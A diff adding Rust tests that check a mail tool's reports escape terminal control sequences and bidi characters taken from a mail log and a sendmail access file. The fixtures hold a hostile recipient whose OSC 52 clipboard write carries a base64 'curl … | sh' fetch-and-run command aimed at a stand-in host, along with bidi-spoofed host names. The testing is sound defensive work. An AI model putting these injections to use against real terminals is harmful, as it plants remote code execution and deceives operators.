@@ -562,3 +562,68 @@ fn deeply_nested_yaml_is_refused_before_parsing() {
         text(&o)
     );
 }
+
+/// Item 4: relay-report printed host names, senders and recipients from the mail log raw: a
+/// sender set the terminal title and wrote to the clipboard (OSC 52) while the screen showed a
+/// harmless address. Text output shows such bytes as `\x..` and `\u{..}`; JSON escapes C1 and
+/// bidi characters as `\uXXXX` too (serde_json escapes only C0).
+#[test]
+fn escapes_from_a_mail_log_never_reach_the_terminal() {
+    let d = tempfile::tempdir().unwrap();
+    let log = d.path().join("maillog");
+    let evil_rcpt =
+        "<a@b\u{1b}]52;c;Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA==\u{7}\u{1b}]0;title\u{7}>";
+    let evil_host = "gmail.com\u{202e}moc.live\u{202c}\u{9b}2J";
+    let mut text_ = String::new();
+    for i in 0..3 {
+        text_.push_str(&format!(
+            "Nov 26 14:08:5{i} mailsrv sm-mta[11377]: 6AQE8t9k01137{i}: ruleset=check_rcpt, arg1={evil_rcpt}, relay={evil_host} [192.0.2.7], reject=550 5.7.1 {evil_rcpt}... Relaying denied. Proper authentication required.\n"
+        ));
+    }
+    fs::write(&log, text_).unwrap();
+    let o = run(&["relay-report", "--log", log.to_str().unwrap()]);
+    let out = String::from_utf8_lossy(&o.stdout).to_string();
+    assert!(out.contains("relaying denied: 3"), "{}", text(&o));
+    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{202c}'] {
+        assert!(!out.contains(bad), "{bad:?} reached the terminal: {out:?}");
+    }
+    assert!(out.contains("gmail.com\\u{202e}moc.live\\u{202c}"), "{out}");
+    let o = run(&[
+        "--format",
+        "json",
+        "relay-report",
+        "--log",
+        log.to_str().unwrap(),
+    ]);
+    let out = String::from_utf8_lossy(&o.stdout).to_string();
+    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{202c}'] {
+        assert!(!out.contains(bad), "{bad:?} in the JSON: {out:?}");
+    }
+    assert!(out.contains("\\u202e"), "{out}");
+    assert!(out.contains("\\u009b2J"), "C1 as \\u009b: {out}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert!(
+        v.to_string().contains('\u{202e}'),
+        "the value itself is kept"
+    );
+}
+
+/// Item 4: findings quote lines of config files (an access entry) and errors quote them too.
+#[test]
+fn escapes_in_config_files_are_shown_not_sent() {
+    need_tools!();
+    let t = fixture("debian12");
+    let access = t.path().join("etc/mail/access");
+    let mut a = fs::read(&access).unwrap();
+    // Bidi controls are valid text (a file with ESC in it is refused as not text at all).
+    a.extend_from_slice("10.9.8.7\u{202e}1.0.0.721\u{202c} RELAY\n".as_bytes());
+    fs::write(&access, a).unwrap();
+    for args in [&["check"][..], &["plan"]] {
+        let o = run_root(t.path(), args);
+        let all = text(&o);
+        assert!(
+            !all.contains('\u{1b}') && !all.contains('\u{202e}'),
+            "{args:?}: {all:?}"
+        );
+    }
+}
